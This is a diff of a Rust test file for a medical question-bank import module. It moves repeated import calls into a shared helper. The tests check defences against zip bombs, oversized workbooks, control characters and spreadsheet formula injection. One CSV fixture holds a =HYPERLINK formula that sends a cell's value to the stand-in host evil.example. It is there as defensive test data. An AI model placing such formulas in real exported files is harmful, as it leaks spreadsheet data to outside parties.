@@ -606,6 +606,17 @@ kc-domain-ecg,ECG,kc-ecg-bav,Blocs AV,,cardio\n";
 
 // ------------------------------------------------------------ spreadsheet bombs (issue 9.8)
 
+/// Imports `bytes` as `format` in review, all-or-nothing, at the epoch.
+async fn import_with_defaults(
+    db: &myqcm_db::DatabaseConnection,
+    bytes: &[u8],
+    format: Format,
+) -> import::ImportReport {
+    import::import(db, bytes, format, &import_opts(), &|_, _| {}, epoch())
+        .await
+        .unwrap()
+}
+
 fn import_opts() -> ImportOptions {
     ImportOptions {
         partial: false,
@@ -751,16 +762,7 @@ async fn a_workbook_with_a_cell_at_xfd1048576_fails_the_import_with_a_clear_mess
     ws.write_string(1_048_575, 16_383, "far away").unwrap();
     let bytes = wb.save_to_buffer().unwrap();
     let before = myqcm_db::catalogue::count_items(&*db).await.unwrap();
-    let r = import::import(
-        &db,
-        &bytes,
-        Format::Xlsx,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, &bytes, Format::Xlsx).await;
     assert!(!r.committed);
     assert_eq!(r.errors.len(), 1, "{r:?}");
     assert!(
@@ -784,16 +786,7 @@ async fn a_workbook_with_a_cell_at_xfd1048576_fails_the_import_with_a_clear_mess
     ws.write_string(3, 1, "cardio-hta").unwrap();
     ws.write_string(3, 2, "135").unwrap();
     ws.write_string(3, 3, "kc-cardio-hta-mesure").unwrap();
-    let r = import::import(
-        &db,
-        &wb.save_to_buffer().unwrap(),
-        Format::Xlsx,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, &wb.save_to_buffer().unwrap(), Format::Xlsx).await;
     assert!(r.committed && r.created == 1, "{r:?}");
 }
 
@@ -810,16 +803,7 @@ async fn a_zip_bomb_is_refused_before_it_is_unzipped() {
         huge,
     );
     assert!(bomb.len() < 2 * 1024 * 1024, "{}", bomb.len());
-    let r = import::import(
-        &db,
-        &bomb,
-        Format::Xlsx,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, &bomb, Format::Xlsx).await;
     assert!(!r.committed);
     assert!(
         r.errors[0].reason.contains("unzips to more than 64 MiB"),
@@ -884,16 +868,7 @@ async fn formula_cells_are_neutralised_in_exports_and_restored_on_import() {
         "{CSV_HEAD}f-1,qcs,cardio-hta,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"clic\"\")\",+33 6,-5,@SUM(1),1,,medium,45,kc-cardio-hta-def\n\
          f-2,qcs,cardio-hta,'déjà cité' : quelle valeur ?,'=1,\"\tA\",\"\rB\",3,,medium,45,kc-cardio-hta-def\n"
     );
-    let r = import::import(
-        &db,
-        csv.as_bytes(),
-        Format::Csv,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
     assert!(r.committed, "{:?}", r.errors);
     assert_eq!(r.created, 2);
     let bank = import::export::bank(&db).await.unwrap();
@@ -971,16 +946,7 @@ async fn an_author_cannot_pre_claim_an_external_id() {
     let csv = format!(
         "{CSV_HEAD}bank-0042,qcs,cardio-hta,Question de la banque officielle ?,A,B,C,1,,medium,45,kc-cardio-hta-def\n"
     );
-    let r = import::import(
-        &db,
-        csv.as_bytes(),
-        Format::Csv,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
     assert_eq!((r.created, r.updated), (1, 0), "{r:?}");
     let imported = myqcm_db::catalogue::item_by_external_id(&*db, "bank-0042")
         .await
@@ -1066,16 +1032,7 @@ async fn imports_refuse_text_with_control_characters_naming_the_place() {
         csv_row(1),
         csv_row(2).replace("Option B 2", "Option\u{0}B")
     );
-    let r = import::import(
-        &db,
-        csv.as_bytes(),
-        Format::Csv,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
     assert!(!r.committed);
     assert_eq!(r.errors.len(), 1, "{r:?}");
     assert_eq!(
@@ -1086,16 +1043,7 @@ async fn imports_refuse_text_with_control_characters_naming_the_place() {
     bank.items.truncate(2);
     bank.items[1].explanation = "bell \u{7} here".into();
     let bytes = import::export::write(&bank, Format::Json).unwrap();
-    let r = import::import(
-        &db,
-        &bytes,
-        Format::Json,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, &bytes, Format::Json).await;
     assert!(!r.committed);
     assert_eq!(r.errors[0].column, "items[1].explanation", "{r:?}");
 }
@@ -1321,16 +1269,7 @@ async fn every_rejected_row_carries_a_machine_reason_and_the_value_it_names() {
     ];
     bank.clinical_cases.clear();
     let bytes = import::export::write(&bank, Format::Json).unwrap();
-    let r = import::import(
-        &db,
-        &bytes,
-        Format::Json,
-        &import_opts(),
-        &|_, _| {},
-        epoch(),
-    )
-    .await
-    .unwrap();
+    let r = import_with_defaults(&db, &bytes, Format::Json).await;
     assert!(!r.committed);
     let got: Vec<(usize, &str, Option<&str>, Option<&str>)> = r
         .errors
